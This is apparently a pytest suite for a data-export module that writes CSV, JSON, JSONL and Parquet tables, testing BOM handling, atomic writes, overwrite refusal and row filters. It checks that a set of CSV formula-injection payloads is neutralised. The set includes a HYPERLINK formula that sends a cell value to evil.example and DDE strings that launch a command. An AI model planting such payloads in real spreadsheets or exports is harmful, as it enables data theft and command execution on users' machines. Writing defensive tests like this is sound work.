"""The export writers: CSV for spreadsheets (BOM, no live formula), JSON, Parquet; all or nothing."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from dadkhah.core.record import DATE_FIELDS, FIELDS
from dadkhah.pipelines.export import (
    BOOL,
    FLOAT,
    INT,
    RECORD_NORMALIZED,
    STRING,
    TABLES,
    Column,
    ExportError,
    check_request,
    check_where,
    filter_rows,
    iso_interval,
    parse_where,
    write_table,
)

COLUMNS = [
    Column("name", STRING, ""),
    Column("n", INT, ""),
    Column("x", FLOAT, ""),
    Column("ok", BOOL, ""),
]
ROWS = [
    {"name": "علی تابش", "n": 1, "x": 0.5, "ok": True},
    {"name": "Ali Tabesh", "n": -2, "x": None, "ok": False},
]
#: The six cell starts a spreadsheet reads as a formula (OWASP "CSV Injection").
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=2+2",
}


def _write(tmp_path: Path, fmt: str, rows: list[dict[str, Any]] = ROWS) -> Path:
    out = tmp_path / f"t.{fmt}"
    write_table(out=out, table="persons", fmt=fmt, columns=COLUMNS, rows=iter(rows))
    return out


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_csv_defuses_each_formula_start(tmp_path: Path, kind: str) -> None:
    payload = PAYLOADS[kind]
    out = _write(tmp_path, "csv", [{"name": payload, "n": 1, "x": 1.0, "ok": True}])
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["name"] == "'" + payload
    import pandas as pd

    frame = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    assert frame["name"][0] == "'" + payload


def test_csv_keeps_numbers_and_persian_and_starts_with_a_bom(tmp_path: Path) -> None:
    out = _write(tmp_path, "csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbfname,n,x,ok\r\n")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0] == {"name": "علی تابش", "n": "1", "x": "0.5", "ok": "true"}
    assert rows[1]["n"] == "-2" and rows[1]["x"] == ""  # a number, not a formula
    import pandas as pd

    frame = pd.read_csv(out)  # as a spreadsheet-like reader opens it: the BOM is not a name
    assert list(frame.columns) == ["name", "n", "x", "ok"]
    assert frame["name"][0] == "علی تابش" and int(frame["n"][1]) == -2


def test_json_and_json_lines_read_back(tmp_path: Path) -> None:
    data = json.loads(_write(tmp_path, "json").read_text(encoding="utf-8"))
    assert data == ROWS
    lines = _write(tmp_path, "jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == ROWS
    assert "علی" in lines[0]  # not escaped


def test_parquet_has_the_declared_schema(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pq.read_table(_write(tmp_path, "parquet"))
    assert table.schema.types == [pa.string(), pa.int64(), pa.float64(), pa.bool_()]
    assert table.schema.metadata[b"dadkhah.table"] == b"persons"
    assert table.to_pylist() == ROWS


def test_an_empty_table_is_still_a_valid_file_in_every_format(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    assert json.loads(_write(tmp_path, "json", []).read_text()) == []
    assert _write(tmp_path, "jsonl", []).read_text() == ""
    assert pq.read_table(_write(tmp_path, "parquet", [])).num_rows == 0


def test_an_existing_file_is_refused_without_force_and_replaced_with_it(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    out.write_text("keep me")
    with pytest.raises(ExportError, match=r"exists already.*--force"):
        write_table(out=out, table="persons", fmt="csv", columns=COLUMNS, rows=iter(ROWS))
    assert out.read_text() == "keep me"
    write_table(out=out, table="persons", fmt="csv", columns=COLUMNS, rows=iter(ROWS), force=True)
    assert "علی" in out.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "parquet"])
def test_a_failure_while_writing_leaves_nothing(tmp_path: Path, fmt: str) -> None:
    def rows() -> Iterator[dict[str, Any]]:
        yield ROWS[0]
        raise RuntimeError("the database went away")

    out = tmp_path / f"t.{fmt}"
    with pytest.raises(RuntimeError):
        write_table(out=out, table="persons", fmt=fmt, columns=COLUMNS, rows=rows())
    assert list(tmp_path.iterdir()) == []


def test_an_audit_failure_before_the_rename_leaves_nothing(tmp_path: Path) -> None:
    def refuse(_n: int) -> None:
        raise RuntimeError("the log could not be written")

    with pytest.raises(RuntimeError):
        write_table(
            out=tmp_path / "t.csv", table="persons", fmt="csv", columns=COLUMNS,
            rows=iter(ROWS), before_rename=refuse,
        )  # fmt: skip
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "table, fmt, message",
    [
        ("people", "csv", "unknown table 'people'; choose one of records, persons"),
        ("persons", "xlsx", "unknown format 'xlsx'; choose one of csv, json, jsonl, parquet"),
    ],
)
def test_unknown_table_or_format_is_refused(
    tmp_path: Path, table: str, fmt: str, message: str
) -> None:
    with pytest.raises(ExportError, match=message):
        check_request(table=table, fmt=fmt, out=tmp_path / "x", force=False)


def test_where_terms() -> None:
    where = parse_where(["name=Ali Tabesh", "ok=false", "name=x"])
    assert where == {"name": {"Ali Tabesh", "x"}, "ok": {"false"}}
    assert list(filter_rows(ROWS, where)) == [ROWS[1]]
    with pytest.raises(ExportError, match="FIELD=VALUE"):
        parse_where(["name"])
    with pytest.raises(ExportError, match="no field 'colour'"):
        check_where({"colour": {"red"}}, COLUMNS)


@pytest.mark.parametrize(
    "earliest, latest, text",
    [
        ("1988-07-27", "1988-08-22", "1988-07-27/1988-08-22"),
        ("1988-08-01", "1988-08-01", "1988-08-01"),
        (None, None, ""),
    ],
)
def test_iso_interval(earliest: Any, latest: Any, text: str) -> None:
    assert iso_interval(earliest, latest) == text


def test_docs_describe_every_table_and_column() -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "exports.md").read_text("utf-8")
    for name, spec in TABLES.items():
        assert f"## {name}" in docs, name
        columns = [*spec.columns, *([spec.dynamic] if spec.dynamic else [])]
        for column in columns:
            assert f"| `{column.name}` | {column.type} |" in docs, (name, column.name)


def test_the_records_table_has_a_column_for_every_key_of_the_normalized_record() -> None:
    columns = [c.name for c in RECORD_NORMALIZED]
    expected = [k for k in FIELDS if k != "v"] + [f"{d}_precision" for d in DATE_FIELDS]
    assert sorted(columns) == sorted([*expected, "normalized_other"])
